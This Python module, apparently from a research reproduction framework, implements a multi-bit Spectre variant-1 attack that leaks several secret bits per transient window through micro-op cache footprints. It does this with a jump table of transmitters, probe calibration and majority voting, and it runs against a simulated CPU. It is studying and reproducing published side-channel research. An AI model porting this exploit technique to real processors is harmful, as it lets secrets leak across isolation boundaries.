"""Jump-table variant-1: leaking multiple bits per transient window.

Section VI-A notes that the bit-by-bit attack leaves "significant
additional room for bandwidth optimizations (for example, using a jump
table)".  This module implements that future-work suggestion: the
transient gadget masks ``k`` bits of the secret and makes an indirect
call through a ``2^k``-entry table of transmitters, each with a
*disjoint* micro-op cache footprint.  The attacker probes every group
and picks the one that got trampled -- ``k`` bits per victim
invocation instead of one.

The mechanism stacks two of the paper's primitives: the bounds-check
bypass (variant-1) and the predicted-indirect-target fetch (variant-2).
Within the transient window the indirect call first follows its
trained prediction, then -- once the table load resolves -- the
misprediction resteers transient fetch to the *actual* secret-dependent
transmitter, whose fetch fills its group's sets.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.core.exploitgen import FootprintSpec, emit_chain, emit_probe, striped_sets
from repro.core.transient import ARRAY_BYTES
from repro.cpu.config import CPUConfig
from repro.cpu.noise import NoiseModel
from repro.errors import ConfigError
from repro.isa import encodings as enc
from repro.isa.assembler import Assembler
from repro.lint.gadgets import ChainClaim, PairClaim
from repro.lint.taint import SecretClaim
from repro.session import AttackSession, AttackStats

_PROBE_ARENAS = 0x44_0000
_SEND_ARENAS = 0x60_0000
_ARENA_STRIDE = 0x4_0000


@dataclass
class SymbolCalibration:
    """Per-group probe baselines for both channel states."""

    quiet: List[float]  # mean probe time when the group was NOT hit
    loud: List[float]  # mean probe time when the group WAS hit

    def classify(self, times: List[float]) -> int:
        """Pick the symbol whose group looks most trampled."""
        scores = []
        for g, t in enumerate(times):
            span = max(self.loud[g] - self.quiet[g], 1.0)
            scores.append((t - self.quiet[g]) / span)
        return max(range(len(times)), key=lambda g: scores[g])


class JumpTableSpectre(AttackSession):
    """Multi-bit variant-1 using a transmitter jump table.

    ``bits_per_symbol`` of the secret byte are leaked per victim
    invocation (1..3; the group count ``2^k`` times ``sets_per_group``
    must fit in 32 sets).
    """

    TRAIN_BASE = 16  # array[16 + s] == s for every symbol s (public)

    def __init__(
        self,
        secret: bytes,
        bits_per_symbol: int = 2,
        sets_per_group: int = 4,
        probe_ways: int = 8,
        transmit_ways: int = 3,
        samples: int = 3,
        config: Optional[CPUConfig] = None,
        noise: Optional[NoiseModel] = None,
    ):
        if not 1 <= bits_per_symbol <= 3:
            raise ConfigError("bits_per_symbol must be 1..3")
        if 8 % bits_per_symbol:
            raise ConfigError("bits_per_symbol must divide 8")
        self.secret = secret
        self.bits = bits_per_symbol
        self.groups = 1 << bits_per_symbol
        self.sets_per_group = sets_per_group
        if self.groups * sets_per_group > 32:
            raise ConfigError("group footprints exceed 32 sets")
        self.probe_ways = probe_ways
        self.transmit_ways = transmit_ways
        self.samples = samples
        super().__init__(config or CPUConfig.skylake(), noise)

    def setup(self) -> None:
        # Transmitter jump table: resolved after assembly (and after
        # every reset, which re-images data memory).
        table = self.core.addr_of("transmit_table")
        for g in range(self.groups):
            self.core.write_mem(
                table + 8 * g, self.core.addr_of(f"send_{g}")
            )
        self.calibration: Optional[SymbolCalibration] = None

    # ------------------------------------------------------------------

    def _group_sets(self, g: int) -> Tuple[int, ...]:
        all_sets = striped_sets(self.groups * self.sets_per_group)
        return all_sets[g::self.groups]

    def build_program(self):
        asm = Assembler()
        asm.reserve("probe_results", 8 * self.groups)
        array_addr = asm.reserve(
            "array", ARRAY_BYTES + len(self.secret) + 64, align=64
        )
        asm.label_at("secret", array_addr + ARRAY_BYTES)
        asm.data("array_size", (ARRAY_BYTES).to_bytes(8, "little"))
        asm.reserve("transmit_table", 8 * self.groups)

        chains: list = []
        pairs: list = []
        for g in range(self.groups):
            sets = self._group_sets(g)
            probe_spec = FootprintSpec(
                sets, self.probe_ways, _PROBE_ARENAS + g * _ARENA_STRIDE
            )
            send_spec = FootprintSpec(
                sets, self.transmit_ways, _SEND_ARENAS + g * _ARENA_STRIDE,
                nops_per_region=1, lcp_per_nop=0, jmp_lcp=0,
            )
            emit_probe(asm, f"probe_{g}", probe_spec, "probe_results")
            emit_chain(asm, f"send_{g}", send_spec, exit_kind="ret")
            chains += [
                ChainClaim(f"probe_{g}", probe_spec, "probe"),
                ChainClaim(f"send_{g}", send_spec, "tiger"),
            ]
            # Each symbol's transmitter must contend with its own
            # group's probe and stay clear of every other group's:
            # group separation is the whole multi-bit mechanism.
            pairs.append(
                PairClaim(f"send_{g}", f"probe_{g}", "conflict")
            )
            for h in range(g):
                pairs.append(
                    PairClaim(f"send_{g}", f"probe_{h}", "disjoint")
                )
                pairs.append(
                    PairClaim(f"send_{h}", f"probe_{g}", "disjoint")
                )

        # Victim: r1 = index, r2 = symbol shift (bits * symbol_index).
        asm.org(0x40_0040)
        asm.label("victim")
        asm.emit(enc.mov_imm("r10", asm.resolve("array_size"), width=64))
        asm.emit(enc.load("r3", "r10"))
        asm.emit(enc.cmp_reg("r1", "r3"))
        asm.emit(enc.jcc("ae", "vm_oob"))
        asm.emit(enc.mov_imm("r9", asm.resolve("array"), width=64))
        asm.emit(enc.load("r4", "r9", index="r1", size=1))
        asm.emit(enc.alu("shr", "r4", "r2"))
        asm.emit(enc.alu_imm("and", "r4", self.groups - 1))
        asm.emit(enc.alu_imm("shl", "r4", 3))
        asm.emit(enc.mov_imm("r8", asm.resolve("transmit_table"), width=64))
        asm.emit(enc.load("r5", "r8", index="r4"))
        asm.emit(enc.call_ind("r5"))
        asm.label("vm_oob")
        asm.emit(enc.ret())

        asm.align(64)
        asm.label("invoke_victim")
        asm.emit(enc.call("victim"))
        asm.emit(enc.halt())
        asm.align(64)
        asm.label("flush_size")
        asm.emit(enc.mov_imm("r13", asm.resolve("array_size"), width=64))
        asm.emit(enc.clflush("r13"))
        asm.emit(enc.halt())
        # The masked symbol steers an indirect call through
        # transmit_table (written post-assembly in setup()), so the
        # claim enumerates the 2^k transmitters as landing sites.
        self._claims = chains + pairs + [
            SecretClaim(
                name="secret", entry="victim", label="secret",
                size=len(self.secret) or 1,
                indirect_targets=tuple(
                    f"send_{g}" for g in range(self.groups)
                ),
                leaks_to=("dsb", "itlb"),
            )
        ]
        return asm.assemble(entry="victim")

    def _install_data(self) -> None:
        base = self.core.addr_of("secret")
        for i, byte in enumerate(self.secret):
            self.core.write_mem(base + i, byte, size=1)
        array = self.core.addr_of("array")
        for s in range(self.groups):
            self.core.write_mem(array + self.TRAIN_BASE + s, s, size=1)

    def _probe_all(self) -> List[float]:
        times = []
        result = self.core.addr_of("probe_results")
        for g in range(self.groups):
            self._call(f"probe_{g}")
            times.append(self._elapsed(result))
        return times

    def _episode(self, index: int, shift: int) -> List[float]:
        self._call("invoke_victim",
                   regs={"r1": self.TRAIN_BASE, "r2": 0})  # (re)train
        self._probe_all()  # prime
        self._call("flush_size")
        self._call("invoke_victim", regs={"r1": index, "r2": shift})
        return self._probe_all()

    # ------------------------------------------------------------------

    def calibrate(self, rounds: int = 4) -> SymbolCalibration:
        """Measure each group's probe in both states using *public*
        in-bounds array values that encode every symbol."""
        self._install_data()
        quiet = [[] for _ in range(self.groups)]
        loud = [[] for _ in range(self.groups)]
        for _ in range(rounds):
            for s in range(self.groups):
                times = self._episode(self.TRAIN_BASE + s, 0)
                for g in range(self.groups):
                    (loud if g == s else quiet)[g].append(times[g])
        self.calibration = SymbolCalibration(
            quiet=[statistics.fmean(q) for q in quiet],
            loud=[statistics.fmean(l) for l in loud],
        )
        return self.calibration

    def leak_symbol(self, byte_index: int, symbol_index: int) -> int:
        """Leak ``bits_per_symbol`` bits of one secret byte."""
        if self.calibration is None:
            self.calibrate()
        oob = ARRAY_BYTES + byte_index
        shift = self.bits * symbol_index
        self._episode(oob, shift)  # warm-up: pull the secret into L1D
        votes = []
        for _ in range(self.samples):
            times = self._episode(oob, shift)
            votes.append(self.calibration.classify(times))
        return max(set(votes), key=votes.count)

    def leak(self, nbytes: Optional[int] = None) -> AttackStats:
        """Leak the secret, ``bits_per_symbol`` bits per episode."""
        if self.calibration is None:
            self.calibrate()
        return self._leak(nbytes, self.bits, self.leak_symbol)
